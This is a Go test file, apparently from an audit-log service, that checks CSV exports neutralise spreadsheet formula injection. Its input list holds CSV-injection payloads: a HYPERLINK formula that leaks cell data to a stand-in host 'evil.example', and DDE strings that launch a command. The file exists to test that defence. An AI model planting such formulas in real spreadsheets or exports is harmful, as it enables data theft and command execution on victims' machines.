package exporter

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/auditstore/auditstore/internal/chtest"
	"github.com/auditstore/auditstore/schema"
)

// TestCSVNeutralizesFormulas: a text cell of a CSV export that begins with
// =, +, -, @, a tab or a carriage return comes back, read with a CSV
// reader, prefixed with a single quote (OWASP's CSV injection guidance);
// other cells and the binary formats keep their values exactly.
func TestCSVNeutralizesFormulas(t *testing.T) {
	e := newEnv(t)
	hostile := []string{`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "safe = value", "'already quoted", "ünïcødé"}
	now := time.Now().UTC().Truncate(time.Millisecond)
	var rows []schema.Row
	for i, v := range hostile {
		ev := schema.Event{ID: uuid.NewString(), Timestamp: now.Add(time.Duration(i) * time.Millisecond),
			Event:     schema.EventInfo{Type: "create-secret", Metadata: json.RawMessage(`{"k":"v"}`)},
			Actor:     schema.Actor{Type: "user", Metadata: json.RawMessage(`{"userId":` + mustQuote(v) + `,"email":` + mustQuote(v) + `}`)},
			ProjectID: v, ProjectName: v, UserAgent: v, TraceID: v,
			Resource: &schema.Resource{Type: "secret", ID: v, Name: v}}
		rows = append(rows, schema.NewRow(&ev, "acme", now, schema.Plan{Name: "pro", Retention: 90 * 24 * time.Hour}))
	}
	chtest.InsertRows(t, e.db, rows)

	b := e.download(t, "acme", "format=csv")
	all, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v", err)
	}
	header := all[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s in %v", name, header)
		return -1
	}
	if len(all)-1 != len(hostile) {
		t.Fatalf("%d rows, want %d", len(all)-1, len(hostile))
	}
	for i, line := range all[1:] { // time order: the order of hostile
		v := hostile[i]
		want := v
		if strings.ContainsAny(v[:1], "=+-@\t\r") {
			want = "'" + v
		}
		for _, name := range []string{"actorId", "actorEmail", "projectId", "projectName", "resourceId", "resourceName", "userAgent", "traceId"} {
			if got := line[col(name)]; got != want {
				t.Errorf("%s: cell %q, want %q", name, got, want)
			}
		}
		if got := line[col("eventType")]; got != "create-secret" {
			t.Errorf("eventType %q", got)
		}
		if ts := line[col("timestamp")]; !strings.HasPrefix(ts, "20") {
			t.Errorf("timestamp %q", ts)
		}
	}
	// NDJSON (and the binary formats) keep the values as they are.
	nd := e.download(t, "acme", "format=ndjson")
	for _, v := range hostile[:4] {
		if !bytes.Contains(nd, []byte(`"projectId":`+mustQuote(v))) {
			t.Errorf("ndjson lacks projectId %q as sent", v)
		}
	}
}

// mustQuote is s as a JSON string, as the wire format writes it (no HTML
// escaping).
func mustQuote(s string) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(s)
	return strings.TrimSuffix(b.String(), "\n")
}
